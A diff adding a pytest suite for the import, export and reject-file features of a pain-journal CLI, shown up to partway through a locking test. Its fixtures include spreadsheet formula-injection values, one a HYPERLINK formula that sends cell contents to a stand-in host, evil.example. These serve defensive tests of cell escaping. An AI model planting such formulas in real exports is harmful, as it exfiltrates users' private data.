@@ -1,0 +1,1359 @@
+"""Research features through the real command line: `import`, `export`, `cohort`, and the
+library functions behind them (`transfer.import_rows`, `transfer.export`).
+
+Most tests run the Typer app in-process (the ``cli`` fixture); a few run
+``python -m pumpjournal`` as a real process: `import -` reading a pipe, a pipe from `export`
+into `import`, and a Ctrl-C or a crash part way through an import. Hypothesis drives random
+rows through `import_rows` on an in-memory journal (all rows or none; only InputError) and
+random valid entries through export -> import -> export.
+
+Files are small (tens of rows). Dates are fixed days in the past (2025), so no test depends on
+the day it runs, except where "today" is the point.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import itertools
+import json
+import os
+import re
+import signal
+import subprocess
+import sys
+from datetime import date, timedelta
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
+
+from pumpjournal import InputError, Journal, transfer
+from pumpjournal import model
+from pumpjournal import symptoms as cat
+from pumpjournal.store import View, empty_data
+from conftest import BASE_ENV
+from pjtest import snapshot
+
+CSV_COLUMNS = ["patient", "date", "pain", "worst", "least", "average", "symptoms",
+               "temperature", "temperature_c", "temperature_site", "boluses", "sleep", "mood",
+               "note", "questions", "contacted", "logged_at", "updated_at"]
+SUMMARY_KEYS = {"rows", "imported", "updated", "skipped", "unchanged", "rejected",
+                "warning_signs", "errors", "rejects_file"}
+PAIN_ACCEPTED = "0 = no pain at all, 10 = the worst pain you can imagine"
+STAMP = "2025-06-01T09:00:00+00:00"
+TODAY = date(2025, 6, 1)
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click me")', "+1", "-2", "@SUM(A1:A9)"]
+FHIR_ID = re.compile(r"^[A-Za-z0-9\-.]{1,64}$")
+
+
+def d(n: int) -> str:
+    """A fixed past day: d(1) is 2025-03-01."""
+    return (date(2025, 3, 1) + timedelta(days=n - 1)).isoformat()
+
+
+def ok(result):
+    assert result.exit_code == 0, (result.stdout, result.stderr)
+    return result
+
+
+def write(folder: Path, name: str, content: str | bytes) -> Path:
+    path = folder / name
+    if isinstance(content, str):
+        path.write_text(content, encoding="utf-8", newline="")
+    else:
+        path.write_bytes(content)
+    return path
+
+
+def stored(journal: Path) -> list[dict]:
+    """Every entry in the journal as its JSON form, by person then date."""
+    if not journal.exists():
+        return []
+    return sorted((e.to_json() for e in Journal(journal).entries()),
+                  key=lambda e: (e["patient"], e["date"]))
+
+
+def summary(result) -> dict:
+    """The `Import summary:` lines of a text import as {label: value}."""
+    text = result.stdout
+    assert "Import summary:" in text, (result.stdout, result.stderr)
+    found = {}
+    for line in text.split("Import summary:", 1)[1].splitlines():
+        label, sep, value = line.strip().partition(": ")
+        if sep:
+            found[label] = value
+    return found
+
+
+def refused(result, journal: Path, before: bytes | None, code: int = 2) -> str:
+    """An import that changed nothing: its exit code, no traceback, the journal byte for byte
+    as it was (or still absent). Returns stderr."""
+    assert result.exit_code == code, (result.stdout, result.stderr)
+    assert "Traceback" not in result.stderr + result.stdout
+    assert snapshot(journal) == before
+    return result.stderr
+
+
+def seed_journal(cli, journal: Path) -> bytes:
+    """A journal holding one entry for 'me' (made with `log`); returns its bytes."""
+    ok(cli("log", "--pain", "2", "--date", d(40), "--note", "logged by hand"))
+    return journal.read_bytes()
+
+
+def run_input(args: list[str], journal: Path, data: str, **env: str):
+    """The CLI as a real process with ``data`` on its stdin (a pipe)."""
+    full_env = {**os.environ, **BASE_ENV, "PUMPJOURNAL_PATH": str(journal), **env}
+    full_env.pop("PUMPJOURNAL_DEBUG", None)
+    return subprocess.run([sys.executable, "-m", "pumpjournal", *args], env=full_env,
+                          input=data, capture_output=True, text=True, timeout=60)
+
+
+DIARY = (
+    "patient,date,pain,worst,least,average,symptoms,temperature,temperature_site,boluses,"
+    "sleep,mood,note,questions\n"
+    f"p001,{d(1)},5,7,3,5,,,,1,6.5,6,Paper diary week 1,\n"
+    f"p001,{d(2)},4,6,3,4,incision-soreness,37.2 C,mouth,0,7,6,,\n"
+    f"p001,{d(3)},6,8,4,6,fever;chills,100.8 F,ear,2,5,4,Called the clinic,"
+    "Is the redness normal?\n"
+    f"p002,{d(1)},3,4,2,3,,,,,8,7,,\n"
+    f"p002,{d(2)},3,5,2,3,headache,,,,7.5,7,,\n"
+)
+
+
+# The template and the format --------------------------------------------------------------
+
+
+def test_template_prints_a_sample_with_every_column_that_imports(cli, journal, tmp_path):
+    result = ok(cli("import", "--template"))
+    header = next(csv.reader(io.StringIO(result.stdout)))
+    for column in ("patient", "date", "pain", "worst", "least", "average", "symptoms",
+                   "temperature", "temperature_site", "boluses", "sleep", "mood", "note",
+                   "questions"):
+        assert column in header
+    sample = write(tmp_path, "diary.csv", result.stdout)
+    checked = ok(cli("import", str(sample), "--dry-run"))
+    rows = len(result.stdout.strip().splitlines()) - 1
+    assert summary(checked)["Rows read"] == str(rows)
+    assert summary(checked)["Rejected"] == "0"
+    assert not journal.exists()
+
+
+def test_format_comes_from_the_suffix_or_from_format(cli, journal, tmp_path):
+    as_txt = write(tmp_path, "diary.txt", DIARY)
+    error = refused(cli("import", str(as_txt)), journal, None)
+    assert "--format" in error
+    ok(cli("import", str(as_txt), "--format", "csv"))
+    assert len(stored(journal)) == 5
+
+    jsonl = write(tmp_path, "more.jsonl", json.dumps({"patient": "p003", "date": d(1),
+                                                      "pain": 2}) + "\n")
+    ok(cli("import", str(jsonl)))
+    as_json = write(tmp_path, "more.json", json.dumps([{"patient": "p004", "date": d(1),
+                                                        "pain": 1}]))
+    ok(cli("import", str(as_json)))
+    assert {e["patient"] for e in stored(journal)} == {"p001", "p002", "p003", "p004"}
+
+
+def test_reading_stdin_needs_format(cli, journal):
+    error = refused(cli("import", "-", input=DIARY), journal, None)
+    assert "--format" in error
+    ok(cli("import", "-", "--format", "csv", input=DIARY))
+    assert len(stored(journal)) == 5
+
+
+def test_a_missing_file_is_a_clear_error(cli, journal, tmp_path):
+    error = refused(cli("import", str(tmp_path / "nope.csv")), journal, None)
+    assert "nope.csv" in error and "Traceback" not in error
+
+
+# Columns ----------------------------------------------------------------------------------
+
+
+def test_entry_field_columns_are_stored_as_log_stores_them(cli, cli_json, journal, tmp_path):
+    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
+    entries = {(e["patient"], e["date"]): e for e in stored(journal)}
+    third = entries[("p001", d(3))]
+    assert (third["pain"], third["worst"], third["least"], third["average"]) == (6, 8, 4, 6)
+    assert third["symptoms"] == ["fever", "chills"]
+    assert third["temperature"] == "100.8 F" and third["temperature_c"] == 38.22
+    assert third["temperature_site"] == "ear"
+    assert (third["boluses"], third["sleep"], third["mood"]) == (2, 5.0, 4)
+    assert third["note"] == "Called the clinic"
+    assert third["questions"] == ["Is the redness normal?"]
+    # a value left empty is stored as missing, never as 0
+    assert entries[("p002", d(1))]["boluses"] is None
+    assert entries[("p002", d(1))]["temperature_c"] is None
+    # `show` sees the imported day with its warning signs
+    shown = cli_json("show", d(3), "--patient", "p001")
+    assert {"W-INF"} <= {f["rule"] for f in shown["flags"]}
+
+
+def test_symptoms_as_one_column_or_one_0_1_column_per_symptom(cli, journal, tmp_path):
+    narrow = write(tmp_path, "narrow.csv", "patient,date,pain,symptoms\n"
+                   f"a,{d(1)},3,fever;leg_numbness\n"
+                   f"a,{d(2)},2,\n"
+                   f"a,{d(3)},4,Headache\n")
+    wide = write(tmp_path, "wide.csv", "patient,date,pain,fever,leg-numbness,Headache\n"
+                 f"b,{d(1)},3,1,1,0\n"
+                 f"b,{d(2)},2,0,0,0\n"
+                 f"b,{d(3)},4,0,,1\n")
+    ok(cli("import", str(narrow)))
+    ok(cli("import", str(wide)))
+    by_person = {p: [e["symptoms"] for e in stored(journal) if e["patient"] == p]
+                 for p in ("a", "b")}
+    assert by_person["a"] == [["fever", "leg-numbness"], [], ["headache"]]
+    assert by_person["b"] == by_person["a"]
+
+
+def test_map_and_patient_columns_fill_many_peoples_journals(cli, cli_json, journal,
+                                                              tmp_path):
+    source = write(tmp_path, "study.csv", "participant_id,Day,Pain score\n"
+                   f"s01,{d(1)},4\ns01,{d(2)},6\ns02,{d(1)},1\ns03,{d(5)},7\n")
+    result = ok(cli("import", str(source), "--map", "Day=date", "--map", "Pain score=pain"))
+    assert summary(result)["Imported"] == "4"
+    assert [(e["patient"], e["date"], e["pain"]) for e in stored(journal)] == [
+        ("s01", d(1), 4), ("s01", d(2), 6), ("s02", d(1), 1), ("s03", d(5), 7)]
+    assert [row["patient"] for row in cli_json("cohort")] == ["s01", "s02", "s03"]
+    assert [e["pain"] for e in cli_json("list", "--patient", "s01")] == [6, 4]
+
+    subject = write(tmp_path, "subject.csv", f"Subject,date,pain\nS-9,{d(2)},3\n")
+    ok(cli("import", str(subject), "--map", "Subject=patient"))
+    assert ("S-9", d(2), 3) in [(e["patient"], e["date"], e["pain"]) for e in stored(journal)]
+
+
+def test_a_bad_map_is_refused(cli, journal, tmp_path):
+    source = write(tmp_path, "diary.csv", DIARY)
+    error = refused(cli("import", str(source), "--map", "Pain score"), journal, None)
+    assert "COLUMN=FIELD" in error
+
+
+def test_an_unknown_column_is_an_error_naming_it_and_the_known_fields(cli, journal, tmp_path):
+    before = seed_journal(cli, journal)
+    source = write(tmp_path, "app.csv", "date,pain,Comments,Device serial\n"
+                   f"{d(1)},3,fine,X1\n{d(2)},4,ok,X1\n")
+    result = cli("import", str(source))
+    error = refused(result, journal, before)
+    assert "'Comments'" in error and "'Device serial'" in error
+    for field in ("patient", "date", "pain", "worst", "symptoms", "temperature", "note"):
+        assert field in error
+    assert "--ignore-column" in error and "--ignore-extra" in error
+    assert "nothing was changed" in error.lower()
+
+
+def test_ignore_column_repeatable_and_ignore_extra_are_reported(cli, cli_json, journal,
+                                                                tmp_path):
+    source = write(tmp_path, "app.csv", "date,pain,Comments,Device serial\n"
+                   f"{d(1)},3,fine,X1\n{d(2)},4,ok,X1\n")
+    result = ok(cli("import", str(source), "--ignore-column", "Comments",
+                    "--ignore-column", "Device serial", "--dry-run"))
+    assert summary(result)["Ignored columns"] == "Comments, Device serial"
+    only_one = cli("import", str(source), "--ignore-column", "Comments")
+    assert "'Device serial'" in refused(only_one, journal, None)
+
+    report = cli_json("import", str(source), "--ignore-extra")
+    assert report["ignored_columns"] == ["Comments", "Device serial"]
+    assert report["imported"] == 2
+    assert [e["note"] for e in stored(journal)] == [None, None]
+
+
+def test_no_patient_column_in_a_journal_of_several_people_asks_for_patient(cli, journal,
+                                                                           tmp_path):
+    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
+    before = journal.read_bytes()
+    source = write(tmp_path, "one.csv", f"date,pain\n{d(9)},3\n")
+    error = refused(cli("import", str(source)), journal, before)
+    assert "--patient" in error
+    ok(cli("import", str(source), "--patient", "p002"))
+    assert ("p002", d(9)) in [(e["patient"], e["date"]) for e in stored(journal)]
+
+
+def test_without_a_patient_column_rows_belong_to_the_journal_owner(cli, journal, tmp_path):
+    ok(cli("import", str(write(tmp_path, "mine.csv", f"date,pain\n{d(1)},3\n{d(2)},4\n"))))
+    assert {e["patient"] for e in stored(journal)} == {"me"}
+
+
+# Dates ------------------------------------------------------------------------------------
+
+
+def test_date_format_reads_us_short_dates(cli, journal, tmp_path):
+    source = write(tmp_path, "us.csv", "date,pain\n10/1/25,4\n12/31/24,5\n")
+    ok(cli("import", str(source), "--date-format", "%m/%d/%y"))
+    assert [e["date"] for e in stored(journal)] == ["2024-12-31", "2025-10-01"]
+
+
+@pytest.mark.parametrize("value, date_format", [
+    ("01/10/2025", None),          # not ISO and no --date-format: never guessed
+    ("2025-1-5", None),
+    ("2025-02-30", None),          # not a real day
+    ("2025-03-01", "%d.%m.%Y"),    # does not match the format given
+    ("13/01/25", "%m/%d/%y"),      # month 13
+])
+def test_a_date_that_does_not_match_is_a_row_error(cli, journal, tmp_path, value,
+                                                    date_format):
+    source = write(tmp_path, "d.csv", f"date,pain\n{d(1) if not date_format else '1.3.2025'}"
+                   f",3\n{value},4\n")
+    args = ["import", str(source)] + (["--date-format", date_format] if date_format else [])
+    error = refused(cli(*args), journal, None)
+    assert f"row 3, column date '{value}'" in error
+
+
+def test_a_future_date_is_a_row_error(cli, journal, tmp_path):
+    tomorrow = (date.today() + timedelta(days=1)).isoformat()
+    source = write(tmp_path, "f.csv", f"date,pain\n{d(1)},3\n{tomorrow},4\n")
+    error = refused(cli("import", str(source)), journal, None)
+    assert f"row 3, column date '{tomorrow}'" in error and "future" in error
+
+
+def test_a_date_log_refuses_as_too_old_is_refused_by_import_too(cli, journal, tmp_path):
+    """`log` refuses a year before 1900; import must check rows with the same rules."""
+    assert cli("log", "--pain", "3", "--date", "1850-01-01").exit_code == 2
+    source = write(tmp_path, "old.csv", f"date,pain\n{d(1)},3\n1850-01-01,4\n")
+    error = refused(cli("import", str(source)), journal, None)
+    assert "row 3, column date '1850-01-01'" in error
+
+
+# Encodings, line ends and delimiters ------------------------------------------------------
+
+
+PLAIN = f"patient,date,pain,symptoms,note\np1,{d(1)},3,fever;chills,café\np1,{d(2)},4,,ok\n"
+
+
+@pytest.mark.parametrize("name, content, options", [
+    ("bom.csv", b"\xef\xbb\xbf" + PLAIN.encode(), []),
+    ("crlf.csv", PLAIN.replace("\n", "\r\n").encode(), []),
+    ("bom-crlf.csv", b"\xef\xbb\xbf" + PLAIN.replace("\n", "\r\n").encode(), []),
+    ("semi.csv", PLAIN.replace(",", ";").replace("fever;chills", "fever,chills").encode(),
+     ["--delimiter", ";"]),
+    ("semi-quoted.csv", PLAIN.replace(",", ";").replace("fever;chills", '"fever;chills"')
+     .encode(), ["--delimiter", ";"]),
+    ("tab.csv", PLAIN.replace(",", "\t").encode(), ["--delimiter", "\t"]),
+])
+def test_bom_crlf_and_other_delimiters_import_like_any_other(cli, journal, tmp_path, name,
+                                                             content, options):
+    plain_journal = tmp_path / "plain" / "journal.json"
+    ok(cli("--journal", str(plain_journal), "import",
+           str(write(tmp_path, "plain.csv", PLAIN))))
+    ok(cli("import", str(write(tmp_path, name, content)), *options))
+
+    def values(path):
+        return [{k: v for k, v in e.items() if k not in ("logged_at", "updated_at")}
+                for e in stored(path)]
+
+    assert values(journal) == values(plain_journal) and len(values(journal)) == 2
+    assert stored(journal)[0]["symptoms"] == ["fever", "chills"]
+    assert stored(journal)[0]["note"] == "café"
+
+
+def test_jsonl_with_bom_and_crlf_imports(cli, journal, tmp_path):
+    lines = [json.dumps({"date": d(1), "pain": 3}), json.dumps({"date": d(2), "pain": 5})]
+    source = write(tmp_path, "rows.jsonl", b"\xef\xbb\xbf" + "\r\n".join(lines).encode()
+                   + b"\r\n")
+    ok(cli("import", str(source)))
+    assert [e["pain"] for e in stored(journal)] == [3, 5]
+
+
+def test_a_file_that_is_not_utf8_is_refused_with_the_way_out(cli, journal, tmp_path):
+    before = seed_journal(cli, journal)
+    source = write(tmp_path, "latin1.csv", f"date,pain,note\n{d(1)},3,caf\xe9\n"
+                   .encode("latin-1"))
+    error = refused(cli("import", str(source)), journal, before)
+    assert "UTF-8" in error
+
+
+# Validation: every bad row, with where and what is accepted -------------------------------
+
+
+BAD_ROWS = (
+    "date,pain,worst,least,symptoms,temperature\n"
+    f"{d(1)},3,5,1,,\n"               # row 2: fine
+    f"{d(2)},11,,,,\n"                # row 3: pain out of range
+    f"{d(3)},4,5,1,,\n"               # row 4: fine
+    f"{d(4)},4,3,6,,\n"               # row 5: least above worst
+    f"{d(5)},4,,,feverr,\n"           # row 6: unknown symptom
+    f"{d(6)},4,,,,hot\n"              # row 7: temperature not understood
+    f"{d(7)},,,,,\n"                  # row 8: pain missing
+    f"{d(8)},2,,,,\n"                 # row 9: fine
+)
+
+
+def test_every_bad_row_is_listed_with_row_column_value_and_what_is_accepted(cli, journal,
+                                                                             tmp_path):
+    before = seed_journal(cli, journal)
+    result = cli("import", str(write(tmp_path, "bad.csv", BAD_ROWS)))
+    error = refused(result, journal, before)
+    assert "row 3, column pain '11'" in error and PAIN_ACCEPTED in error
+    assert "row 5, column least '6'" in error
+    assert "row 6, column symptoms 'feverr'" in error and "fever" in error
+    assert "row 7, column temperature 'hot'" in error and "38.2C" in error
+    assert "row 8, column pain" in error and "required" in error
+    for good in ("row 2", "row 4", "row 9"):
+        assert good not in error
+    assert "5 of 8 rows" in error and "--skip-invalid" in error
+    assert summary(result)["Rejected"] == "5"
+    assert "Nothing was written." in result.stdout
+
+
+def test_import_messages_match_log_messages(cli, journal, tmp_path):
+    """Rows are checked with the rules of `log`: the same words for the same mistake."""
+    logged = cli("log", "--pain", "4", "--temperature", "hot", "--date", d(1))
+    assert logged.exit_code == 2
+    log_words = logged.stderr.strip().removeprefix("Error: ")
+    log_words = log_words.removesuffix(" Nothing was changed.").rstrip(".")
+    assert log_words.startswith("temperature 'hot'")
+    imported = refused(cli("import", str(write(tmp_path, "t.csv",
+                                               f"date,pain,temperature\n{d(1)},4,hot\n"))),
+                       journal, None)
+    assert log_words in imported
+
+
+def test_the_same_person_and_day_twice_in_one_file_is_a_row_error(cli, journal, tmp_path):
+    source = write(tmp_path, "dup.csv", f"patient,date,pain\na,{d(1)},3\nb,{d(1)},4\n"
+                   f"a,{d(1)},5\n")
+    error = refused(cli("import", str(source)), journal, None)
+    assert "row 4" in error and "row 2" in error
+
+
+def test_json_rows_that_are_not_objects_are_row_errors(cli, journal, tmp_path):
+    source = write(tmp_path, "rows.json", json.dumps([{"date": d(1), "pain": 3}, 7,
+                                                      {"date": d(2), "pain": 4}]))
+    error = refused(cli("import", str(source)), journal, None)
+    assert "row 2" in error
+
+
+def test_a_file_that_is_not_json_is_refused(cli, journal, tmp_path):
+    before = seed_journal(cli, journal)
+    error = refused(cli("import", str(write(tmp_path, "x.json", "[{\"date\": "))),
+                    journal, before)
+    assert "JSON" in error
+
+
+def test_dry_run_checks_and_reports_and_writes_nothing(cli, cli_json, journal, tmp_path):
+    before = seed_journal(cli, journal)
+    good = write(tmp_path, "good.csv", DIARY)
+    result = ok(cli("import", str(good), "--dry-run"))
+    assert summary(result)["Imported"] == "5"
+    assert "Dry run: nothing was written." in result.stdout
+    assert journal.read_bytes() == before
+    report = cli_json("import", str(good), "--dry-run")
+    assert report["dry_run"] is True and report["imported"] == 5
+    assert journal.read_bytes() == before
+
+    bad = cli("import", str(write(tmp_path, "bad.csv", BAD_ROWS)), "--dry-run")
+    assert "row 3, column pain '11'" in refused(bad, journal, before)
+    assert not (tmp_path / "backups").exists() and not (journal.parent / "backups").exists()
+
+
+# --skip-invalid and the reject file ---------------------------------------------------------
+
+
+def test_skip_invalid_imports_good_rows_and_writes_bad_ones_to_a_reject_file(
+        cli, journal, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    source = write(tmp_path, "bad.csv", BAD_ROWS)
+    result = cli("import", str(source), "--skip-invalid")
+    assert result.exit_code == 2, result.stderr
+    counts = summary(result)
+    assert (counts["Rows read"], counts["Imported"], counts["Rejected"]) == ("8", "3", "5")
+    assert [e["date"] for e in stored(journal)] == [d(1), d(3), d(8)]
+    rejects = tmp_path / "bad-rejects.csv"
+    assert f"Rejected rows written to {rejects.name}" in result.stdout
+    rows = list(csv.DictReader(rejects.open(encoding="utf-8", newline="")))
+    assert [r["date"] for r in rows] == [d(2), d(4), d(5), d(6), d(7)]
+    assert PAIN_ACCEPTED in rows[0]["_error"]
+    assert rejects.stat().st_mode & 0o777 == 0o600
+
+
+def test_a_fixed_reject_file_imports_and_its_error_column_is_ignored(cli, journal, tmp_path):
+    source = write(tmp_path, "bad.csv", BAD_ROWS)
+    rejects = tmp_path / "fix-me.csv"
+    cli("import", str(source), "--skip-invalid", "--rejects", str(rejects))
+    text = rejects.read_text(encoding="utf-8")
+    assert "_error" in text.splitlines()[0]
+    still_bad = cli("import", str(rejects))
+    assert still_bad.exit_code == 2
+    assert "maps to no field" not in still_bad.stderr  # _error is not an unknown column
+    assert "row 2, column pain '11'" in still_bad.stderr
+    fixed = (text.replace(f"{d(2)},11,", f"{d(2)},10,").replace(f"{d(4)},4,3,6", f"{d(4)},4,6,3")
+             .replace("feverr", "fever").replace(",hot,", ",38.1,")
+             .replace(f"{d(7)},,", f"{d(7)},1,"))
+    rejects.write_text(fixed, encoding="utf-8")
+    result = ok(cli("import", str(rejects)))
+    assert summary(result)["Imported"] == "5"
+    assert [e["date"] for e in stored(journal)] == [d(n) for n in range(1, 9)]
+    assert stored(journal)[1]["pain"] == 10
+    assert stored(journal)[5]["temperature_c"] == 38.1
+
+
+def test_a_jsonl_reject_file_keeps_the_format_and_imports_once_fixed(cli, cli_json, journal,
+                                                                     tmp_path):
+    lines = [{"date": d(1), "pain": 3, "symptoms": []},
+             {"date": d(2), "pain": "a lot", "symptoms": []},
+             {"date": d(3), "pain": 4, "symptoms": ["fever", "nope"]}]
+    source = write(tmp_path, "study.jsonl", "".join(json.dumps(x) + "\n" for x in lines))
+    rejects = tmp_path / "fix-me.jsonl"
+    report = json.loads(cli("import", str(source), "--skip-invalid", "--rejects",
+                            str(rejects), "--json").stdout)
+    assert report["rejects_file"] == str(rejects)
+    assert [(e["row"], e["column"]) for e in report["errors"]] == [(2, "pain"), (3, "symptoms")]
+    bad = [json.loads(line) for line in rejects.read_text(encoding="utf-8").splitlines()]
+    assert [b["date"] for b in bad] == [d(2), d(3)] and all("_error" in b for b in bad)
+    bad[0]["pain"] = 8
+    bad[1]["symptoms"] = ["fever"]
+    rejects.write_text("".join(json.dumps(b) + "\n" for b in bad), encoding="utf-8")
+    again = cli_json("import", str(rejects))
+    assert again["imported"] == 2 and again["rejected"] == 0
+    assert [(e["date"], e["pain"], e["symptoms"]) for e in stored(journal)] == [
+        (d(1), 3, []), (d(2), 8, []), (d(3), 4, ["fever"])]
+
+
+def test_a_reject_file_imports_again_with_the_options_of_the_first_import(cli, journal,
+                                                                          tmp_path):
+    """A `;`-separated export from a diary app: the reject file, fixed, goes back in with the
+    very command that made it."""
+    source = write(tmp_path, "app.csv", "Subject;Day;Pain score;fever\n"
+                   "A1;1.3.25;4;1\nA1;2.3.25;5;0\nB2;31.2.25;3;0\n")
+    rejects = tmp_path / "app-rejects.csv"
+    options = ["--delimiter", ";", "--date-format", "%d.%m.%y", "--map", "Subject=patient",
+               "--map", "Day=date", "--map", "Pain score=pain"]
+    first = cli("import", str(source), *options, "--skip-invalid", "--rejects", str(rejects))
+    assert first.exit_code == 2 and summary(first)["Imported"] == "2"
+    rejects.write_text(rejects.read_text(encoding="utf-8").replace("31.2.25", "28.2.25"),
+                       encoding="utf-8")
+    again = ok(cli("import", str(rejects), *options))
+    assert summary(again)["Imported"] == "1"
+    assert ("B2", "2025-02-28") in [(e["patient"], e["date"]) for e in stored(journal)]
+
+
+def test_a_reject_file_does_not_let_spreadsheets_run_its_cells(cli, journal, tmp_path):
+    """A reject file is opened to be fixed, often in a spreadsheet: cells that begin with
+    = + - @ are written with a leading ' as in an export, and import removes it again."""
+    source = write(tmp_path, "bad.csv", "date,pain,note\n"
+                   f"{d(1)},3,fine\n"
+                   f'{d(2)},11,"=HYPERLINK(""http://evil.example"",""x"")"\n'
+                   f"{d(3)},-2,@SUM(A1)\n")
+    rejects = tmp_path / "rejects.csv"
+    cli("import", str(source), "--skip-invalid", "--rejects", str(rejects))
+    rows = list(csv.reader(rejects.open(encoding="utf-8", newline="")))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert cells, rejects.read_text()
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], cells
+
+
+# Conflicts: re-importing the same file changes nothing -----------------------------------
+
+
+def test_reimport_fails_by_default_naming_the_first_conflicts(cli, journal, tmp_path):
+    source = write(tmp_path, "diary.csv", DIARY)
+    ok(cli("import", str(source)))
+    before = journal.read_bytes()
+    result = cli("import", str(source))
+    error = refused(result, journal, before)
+    assert f"p001 {d(1)} (row 2)" in error and f"p002 {d(2)} (row 6)" in error
+    assert "--on-conflict" in error
+
+
+def test_reimport_with_skip_changes_nothing(cli, journal, tmp_path):
+    source = write(tmp_path, "diary.csv", DIARY)
+    ok(cli("import", str(source)))
+    before = journal.read_bytes()
+    result = ok(cli("import", str(source), "--on-conflict", "skip"))
+    assert summary(result)["Skipped (already there)"] == "5"
+    assert summary(result)["Imported"] == "0"
+    assert journal.read_bytes() == before
+
+
+def test_skip_adds_only_the_new_rows(cli, journal, tmp_path):
+    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
+    grown = write(tmp_path, "grown.csv", DIARY + f"p002,{d(3)},2,3,1,2,,,,,8,7,,\n")
+    result = ok(cli("import", str(grown), "--on-conflict", "skip"))
+    assert (summary(result)["Imported"], summary(result)["Skipped (already there)"]) == ("1",
+                                                                                       "5")
+    assert len(stored(journal)) == 6
+
+
+def test_update_replaces_the_given_fields_and_counts_unchanged_rows(cli, journal, tmp_path):
+    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
+    exported = ok(cli("export", "--format", "csv")).stdout
+    changed = exported.replace(f"p002,{d(2)},3,5,2,3,headache", f"p002,{d(2)},4,5,2,3,headache")
+    assert changed != exported
+    result = ok(cli("import", "-", "--format", "csv", "--on-conflict", "update",
+                    input=changed))
+    counts = summary(result)
+    assert (counts["Updated"], counts["Unchanged"], counts["Imported"]) == ("1", "4", "0")
+    assert [e["pain"] for e in stored(journal) if e["patient"] == "p002"] == [3, 4]
+
+
+def test_reimport_with_update_later_changes_nothing(cli, journal, tmp_path, monkeypatch):
+    """The same file (no logged_at/updated_at columns) imported again a minute later with
+    --on-conflict update: every row is unchanged and the journal stays byte for byte."""
+    from pumpjournal import dates
+
+    minutes = itertools.count()
+
+    def a_minute_later() -> str:
+        hour, minute = divmod(9 * 60 + next(minutes), 60)
+        return f"2025-06-01T{hour:02d}:{minute:02d}:00+00:00"
+
+    monkeypatch.setattr(dates, "now_stamp", a_minute_later)
+    source = write(tmp_path, "diary.csv", DIARY)
+    ok(cli("import", str(source)))
+    before = journal.read_bytes()
+    result = ok(cli("import", str(source), "--on-conflict", "update"))
+    assert (summary(result)["Updated"], summary(result)["Unchanged"]) == ("0", "5")
+    assert journal.read_bytes() == before
+
+
+def test_on_conflict_accepts_only_fail_skip_update(cli, journal, tmp_path):
+    before = seed_journal(cli, journal)
+    error = refused(cli("import", str(write(tmp_path, "diary.csv", DIARY)), "--on-conflict",
+                        "merge"), journal, before)
+    assert "fail" in error and "skip" in error and "update" in error
+
+
+def test_an_update_that_would_contradict_the_stored_scores_is_refused(cli, journal, tmp_path):
+    ok(cli("import", str(write(tmp_path, "a.csv", f"date,pain,worst,least\n{d(1)},4,6,2\n"))))
+    before = journal.read_bytes()
+    # least 7 above the stored worst 6
+    result = cli("import", str(write(tmp_path, "b.csv", f"date,pain,least\n{d(1)},4,7\n")),
+                 "--on-conflict", "update")
+    error = refused(result, journal, before)
+    assert "row 2" in error and "least" in error
+
+
+# Refused imports leave the journal byte for byte ------------------------------------------
+
+
+REFUSED = {
+    "bad rows": ("bad.csv", BAD_ROWS, []),
+    "unknown column": ("x.csv", f"date,pain,mystery\n{d(1)},3,1\n", []),
+    "no pain column": ("x.csv", f"date,score\n{d(1)},3\n", []),
+    "conflict": ("x.csv", f"date,pain\n{d(40)},5\n", []),
+    "bad date format": ("x.csv", f"date,pain\n{d(1)},3\n", ["--date-format", "%d.%m.%Y"]),
+    "bad delimiter": ("x.csv", f"date,pain\n{d(1)},3\n", ["--delimiter", ";;"]),
+    "bad conflict mode": ("x.csv", f"date,pain\n{d(1)},3\n", ["--on-conflict", "merge"]),
+    "not json": ("x.jsonl", "{\n", []),
+    "empty csv": ("x.csv", "", []),
+    "dry run": ("x.csv", f"date,pain\n{d(1)},3\n", ["--dry-run"]),
+    "dry run skip-invalid": ("bad.csv", BAD_ROWS, ["--dry-run", "--skip-invalid"]),
+}
+
+
+@pytest.mark.parametrize("case", list(REFUSED))
+def test_a_refused_import_leaves_the_journal_byte_for_byte(cli, journal, tmp_path, case):
+    name, content, options = REFUSED[case]
+    before = seed_journal(cli, journal)
+    result = cli("import", str(write(tmp_path, name, content)), *options)
+    if case == "dry run":
+        assert result.exit_code == 0
+    else:
+        assert result.exit_code == 2, (result.stdout, result.stderr)
+    assert "Traceback" not in result.stderr
+    assert journal.read_bytes() == before
+    assert not (journal.parent / "backups").exists()
+
+
+def test_a_refused_import_into_no_journal_creates_none(cli, journal, tmp_path):
+    result = cli("import", str(write(tmp_path, "bad.csv", BAD_ROWS)))
+    refused(result, journal, None)
+    assert not journal.exists()
+
+
+# One atomic write under the lock, after a backup ------------------------------------------
+
+
+def test_an_import_keeps_a_backup_of_the_journal_as_it_was(cli, journal, tmp_path):
+    before = seed_journal(cli, journal)
+    ok(cli("import", str(write(tmp_path, "diary.csv", DIARY))))
+    copies = list((journal.parent / "backups").iterdir())
+    assert len(copies) == 1 and "import" in copies[0].name
+    assert copies[0].read_bytes() == before
+    assert copies[0].stat().st_mode & 0o777 == 0o600
+    assert len(stored(journal)) == 6
+    # the backup is a journal pumpjournal can open
+    assert [e.note for e in Journal(copies[0]).entries()] == ["logged by hand"]
+
+
+def test_an_import_is_one_write_under_the_journal_lock(cli, journal, tmp_path, monkeypatch):
+    from pumpjournal import store
+    from pumpjournal.errors import JournalLocked
+
+    seed_journal(cli, journal)
+    writes, lock_seen = [], []
+    real_write, real_read_rows = store.write_file, transfer.read_rows
+
+    def counting_write(path, payload):
+        writes.append(path)
+        real_write(path, payload)
+
+    def watching_read_rows(*args, **kwargs):
+        for n, item in enumerate(real_read_rows(*args, **kwargs)):
+            if n == 3:  # part way: another writer must wait for the lock
+                try:
+                    with Journal(journal, lock_timeout=0).transaction():
+                        lock_seen.append(False)
+                except JournalLocked:
+                    lock_seen.append(True)
+            yield item
+
+    monkeypatch.setattr(store, "write_file", counting_write)
